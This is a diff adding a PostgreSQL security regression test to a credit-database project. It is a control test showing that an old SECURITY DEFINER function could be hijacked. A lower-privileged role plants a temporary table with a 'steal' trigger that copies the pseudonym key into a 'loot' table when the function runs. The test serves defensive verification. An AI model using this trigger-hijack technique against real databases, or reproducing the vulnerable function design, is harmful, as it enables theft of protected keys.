@@ -19,7 +19,7 @@ from sqlalchemy import create_engine, text
 from sqlalchemy.exc import DBAPIError
 
 from creditdb.security import search_path_findings
-from tests.conftest import _pg_admin
+from tests.conftest import TEST_KEY, _pg_admin
 from tests.test_security_pg import World, _load, login_url, py_hmac
 
 pytestmark = pytest.mark.postgres
@@ -516,3 +516,39 @@ def test_a_world_drops_every_role_it_created(tmp_path):
                             {"p": f"%{sfx}"}).scalar_one() == 0
         assert conn.execute(text("SELECT count(*) FROM pg_database WHERE datname = :d"),
                             {"d": w.dbname}).scalar_one() == 0
+
+
+def test_control_the_old_resolution_function_ran_the_planted_trigger_as_the_owner(world):
+    """Control for test_a_planted_resolution_table_cannot_run_code_as_the_owner: the function as it was."""
+    w = world
+    w.q("owner", """CREATE FUNCTION public.cdbt_old_firm_ids(pseudonyms text[])
+        RETURNS TABLE (pseudonym varchar, id integer)
+        LANGUAGE plpgsql VOLATILE SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $fn$
+        BEGIN
+            IF pg_catalog.to_regclass('pg_temp.creditdb_resolved_firm') IS NULL THEN
+                CREATE TEMP TABLE creditdb_resolved_firm (firm_id integer PRIMARY KEY) ON COMMIT DROP;
+            END IF;
+            RETURN QUERY
+            WITH found AS (SELECT f.pseudonym, f.id FROM public.firm f WHERE f.pseudonym = ANY (pseudonyms)),
+                 kept AS (INSERT INTO pg_temp.creditdb_resolved_firm (firm_id) SELECT found.id FROM found
+                          ON CONFLICT DO NOTHING)
+            SELECT found.pseudonym, found.id FROM found;
+        END $fn$""")
+    w.q("owner", "GRANT EXECUTE ON FUNCTION public.cdbt_old_firm_ids(text[]) TO creditdb_institution")
+    owner = w.q("owner", "SELECT current_user")[0][0]
+    try:
+        with w.engines["bk2"].connect() as conn:
+            conn.exec_driver_sql("CREATE TABLE pg_temp.loot (k pg_catalog.bytea)")
+            conn.exec_driver_sql("CREATE TABLE pg_temp.creditdb_resolved_firm (firm_id pg_catalog.int4 PRIMARY KEY)")
+            conn.exec_driver_sql("""CREATE FUNCTION pg_temp.steal() RETURNS trigger LANGUAGE plpgsql AS $$
+                BEGIN INSERT INTO pg_temp.loot SELECT key FROM public.creditdb_pseudonym_key; RETURN NEW; END $$""")
+            conn.exec_driver_sql("CREATE TRIGGER steal BEFORE INSERT ON pg_temp.creditdb_resolved_firm "
+                                 "FOR EACH ROW EXECUTE FUNCTION pg_temp.steal()")
+            conn.exec_driver_sql(f'GRANT ALL ON pg_temp.creditdb_resolved_firm, pg_temp.loot TO "{owner}"')
+            conn.execute(text("SELECT * FROM public.cdbt_old_firm_ids(ARRAY[:p])"),
+                         {"p": py_hmac("corp|JP|9000000000000")})
+            loot = conn.execute(text("SELECT k FROM pg_temp.loot")).scalars().all()
+            conn.rollback()
+        assert [bytes(k) for k in loot] == [TEST_KEY.encode()]  # the bank read the key
+    finally:
+        w.q("owner", "DROP FUNCTION public.cdbt_old_firm_ids(text[])")
